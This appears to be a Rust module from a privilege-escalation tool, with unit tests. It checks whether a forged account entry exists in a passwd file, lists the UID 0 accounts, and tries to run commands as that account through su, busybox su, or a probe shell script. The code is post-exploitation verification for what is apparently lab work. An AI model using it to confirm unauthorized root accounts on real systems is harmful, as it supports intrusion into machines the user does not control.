// SPDX-License-Identifier: AGPL-3.0-or-later
// Copyright (c) 2025-2026 JR Morton

//! Verifier: is the forged account present, and does it run commands?
//!
//! Runs as a linear state machine:
//! `NotVerified → AttemptingExecution → Succeeded | Exhausted`.
//! A missing passwd entry short-circuits before any execution attempt.

use std::fmt;
use std::path::Path;
use std::time::Duration;

use crate::account::{root_equivalents, ForgedAccount, PasswdEntry};
use crate::config::VerifyConfig;
use crate::profile::{Profile, SuMethod};
use crate::report;
use crate::target::Target;

/// Script written to the scratch path for the shell-execution attempts.
pub const PROBE_SCRIPT: &str = "#!/bin/sh
echo \"Current user: $(id)\"
echo \"Current working directory: $(pwd)\"
echo \"Home directory: $HOME\"
";

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum VerifyState {
    NotVerified,
    AttemptingExecution,
    Succeeded { method: String, output: String },
    Exhausted,
}

/// Final answer of a verification run.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Verdict {
    /// The forged line is not in the account database
    Absent,
    /// Present, but no execution method worked
    Inconclusive,
    Confirmed { method: String, output: String },
}

impl Verdict {
    pub fn is_confirmed(&self) -> bool {
        matches!(self, Verdict::Confirmed { .. })
    }
}

impl fmt::Display for Verdict {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Verdict::Absent => write!(f, "account not present"),
            Verdict::Inconclusive => write!(f, "account created but escalation unconfirmed"),
            Verdict::Confirmed { method, .. } => write!(f, "confirmed via {}", method),
        }
    }
}

/// One execution attempt: a label and the argv to run.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Attempt {
    pub label: String,
    pub argv: Vec<String>,
}

impl Attempt {
    fn new(label: &str, argv: &[&str]) -> Self {
        Self {
            label: label.to_string(),
            argv: argv.iter().map(|s| s.to_string()).collect(),
        }
    }
}

pub fn su_attempts(profile: Profile, username: &str) -> Vec<Attempt> {
    profile
        .su_methods()
        .iter()
        .map(|m| match m {
            SuMethod::Su => Attempt::new("su", &["su", username, "-c", "id"]),
            SuMethod::BusyboxSu => {
                Attempt::new("busybox su", &["busybox", "su", username, "-c", "id"])
            }
        })
        .collect()
}

pub fn script_attempts(profile: Profile, script: &Path) -> Vec<Attempt> {
    let script = script.to_string_lossy();
    profile
        .script_runners()
        .iter()
        .map(|prefix| {
            let mut argv: Vec<&str> = prefix.to_vec();
            argv.push(&script);
            let label = if prefix.is_empty() {
                "direct script".to_string()
            } else {
                format!("{} script", prefix.join(" "))
            };
            Attempt::new(&label, &argv)
        })
        .collect()
}

/// Substring search for the forged record's leading fields.
pub fn check_presence(target: &dyn Target, passwd: &Path, account: &ForgedAccount) -> bool {
    match target.read_to_string(passwd) {
        Ok(content) => {
            if content.contains(&account.presence_marker()) {
                report::good(&format!(
                    "Fake user '{}' found in {}",
                    account.username,
                    passwd.display()
                ));
                if let Some(entry) = content
                    .lines()
                    .filter_map(PasswdEntry::parse)
                    .find(|e| e.name == account.username)
                {
                    report::step(&format!(
                        "Entry: password field '{}', uid={} gid={} gecos={} home={} shell={}",
                        entry.password, entry.uid, entry.gid, entry.gecos, entry.home, entry.shell
                    ));
                }
                let roots: Vec<String> = root_equivalents(&content).into_iter().map(|e| e.name).collect();
                report::step(&format!("UID 0 accounts: {}", roots.join(", ")));
                true
            } else {
                report::bad(&format!("Fake user not found in {}", passwd.display()));
                false
            }
        }
        Err(e) => {
            report::bad(&format!("Error reading {}: {:#}", passwd.display(), e));
            false
        }
    }
}

/// Run each attempt in order; the first exit-0 with output wins.
pub fn run_attempts(target: &dyn Target, attempts: &[Attempt], timeout: Duration) -> VerifyState {
    for attempt in attempts {
        let argv: Vec<&str> = attempt.argv.iter().map(String::as_str).collect();
        match target.exec(&argv, timeout) {
            Ok(out) if out.success() && !out.out().is_empty() => {
                return VerifyState::Succeeded {
                    method: attempt.label.clone(),
                    output: out.out().to_string(),
                };
            }
            Ok(out) => tracing::debug!(
                "{} exited {:?}: {}",
                attempt.label,
                out.code,
                out.stderr.trim()
            ),
            Err(e) => tracing::debug!("{} failed: {:#}", attempt.label, e),
        }
    }
    VerifyState::Exhausted
}

pub struct Verifier<'a> {
    target: &'a dyn Target,
    account: &'a ForgedAccount,
    profile: Profile,
    config: &'a VerifyConfig,
    state: VerifyState,
}

impl<'a> Verifier<'a> {
    pub fn new(
        target: &'a dyn Target,
        account: &'a ForgedAccount,
        profile: Profile,
        config: &'a VerifyConfig,
    ) -> Self {
        Self {
            target,
            account,
            profile,
            config,
            state: VerifyState::NotVerified,
        }
    }

    pub fn state(&self) -> &VerifyState {
        &self.state
    }

    pub fn run(&mut self, passwd: &Path) -> Verdict {
        report::step("Testing privilege escalation...");
        if !check_presence(self.target, passwd, self.account) {
            return Verdict::Absent;
        }

        self.state = VerifyState::AttemptingExecution;
        let timeout = Duration::from_secs(self.config.timeout_secs);
        report::step(&format!(
            "Attempting to execute commands as '{}' user...",
            self.account.username
        ));
        self.state = run_attempts(
            self.target,
            &su_attempts(self.profile, &self.account.username),
            timeout,
        );

        if self.state == VerifyState::Exhausted {
            report::step(&format!(
                "Attempting to spawn shell as '{}' user...",
                self.account.username
            ));
            match self
                .target
                .write_executable(&self.config.script_path, PROBE_SCRIPT)
            {
                Ok(()) => {
                    self.state = run_attempts(
                        self.target,
                        &script_attempts(self.profile, &self.config.script_path),
                        timeout,
                    );
                }
                Err(e) => report::bad(&format!("Error testing shell execution: {:#}", e)),
            }
        }

        match &self.state {
            VerifyState::Succeeded { method, output } => {
                report::good(&format!("Successfully executed via {}: {}", method, output));
                Verdict::Confirmed {
                    method: method.clone(),
                    output: output.clone(),
                }
            }
            _ => {
                report::bad(&format!(
                    "Could not execute shell commands as '{}' user",
                    self.account.username
                ));
                Verdict::Inconclusive
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::AccountConfig;
    use crate::target::LocalHost;

    fn account() -> ForgedAccount {
        ForgedAccount::from_config(
            &AccountConfig {
                username: "lab-nonexistent-user".to_string(),
                ..AccountConfig::default()
            },
            Profile::Alpine,
        )
    }

    #[test]
    fn test_absent_short_circuits() {
        let dir = tempfile::tempdir().unwrap();
        let passwd = dir.path().join("passwd");
        std::fs::write(&passwd, "root:x:0:0:root:/root:/bin/bash\n").unwrap();
        let config = VerifyConfig {
            script_path: dir.path().join("probe.sh"),
            ..VerifyConfig::default()
        };
        let acct = account();
        let mut v = Verifier::new(&LocalHost, &acct, Profile::Alpine, &config);
        assert_eq!(v.run(&passwd), Verdict::Absent);
        assert_eq!(v.state(), &VerifyState::NotVerified);
        assert!(!config.script_path.exists());
    }

    #[test]
    fn test_unreadable_passwd_is_absent() {
        let dir = tempfile::tempdir().unwrap();
        assert!(!check_presence(&LocalHost, &dir.path().join("missing"), &account()));
    }

    #[test]
    fn test_present_account_reaches_script_attempts() {
        let dir = tempfile::tempdir().unwrap();
        let acct = account();
        let passwd = dir.path().join("passwd");
        std::fs::write(&passwd, format!("root:x:0:0:root:/root:/bin/bash\n{}", acct.passwd_line()))
            .unwrap();
        let config = VerifyConfig {
            script_path: dir.path().join("probe.sh"),
            ..VerifyConfig::default()
        };
        let mut v = Verifier::new(&LocalHost, &acct, Profile::Alpine, &config);
        let verdict = v.run(&passwd);
        // `su` to an account missing from the real /etc/passwd fails, so the
        // plain-shell script attempt is what succeeds.
        match verdict {
            Verdict::Confirmed { method, output } => {
                assert_eq!(method, "sh script");
                assert!(output.contains("Current user:"));
            }
            other => panic!("unexpected verdict {:?}", other),
        }
        assert!(matches!(v.state(), VerifyState::Succeeded { .. }));
    }

    #[test]
    fn test_run_attempts_exhausted_and_first_success() {
        let timeout = Duration::from_secs(5);
        let failing = vec![
            Attempt::new("false", &["false"]),
            Attempt::new("silent", &["true"]),
            Attempt::new("missing", &["definitely-not-a-real-binary-4821"]),
        ];
        assert_eq!(run_attempts(&LocalHost, &failing, timeout), VerifyState::Exhausted);

        let mut with_winner = failing.clone();
        with_winner.push(Attempt::new("echo", &["echo", "uid=0(root)"]));
        with_winner.push(Attempt::new("later", &["echo", "never"]));
        assert_eq!(
            run_attempts(&LocalHost, &with_winner, timeout),
            VerifyState::Succeeded {
                method: "echo".to_string(),
                output: "uid=0(root)".to_string()
            }
        );
    }

    #[test]
    fn test_timeout_moves_on() {
        let attempts = vec![
            Attempt::new("slow", &["sleep", "5"]),
            Attempt::new("fast", &["echo", "ok"]),
        ];
        let state = run_attempts(&LocalHost, &attempts, Duration::from_secs(1));
        assert!(matches!(state, VerifyState::Succeeded { ref method, .. } if method == "fast"));
    }

    #[test]
    fn test_attempt_lists() {
        let su = su_attempts(Profile::Busybox, "hacked");
        assert_eq!(su[0].argv, vec!["busybox", "su", "hacked", "-c", "id"]);
        assert_eq!(su[1].argv, vec!["su", "hacked", "-c", "id"]);

        let scripts = script_attempts(Profile::Busybox, Path::new("/tmp/t.sh"));
        let labels: Vec<&str> = scripts.iter().map(|a| a.label.as_str()).collect();
        assert_eq!(labels, vec!["busybox sh script", "sh script", "direct script"]);
        assert_eq!(scripts[2].argv, vec!["/tmp/t.sh"]);
    }
}
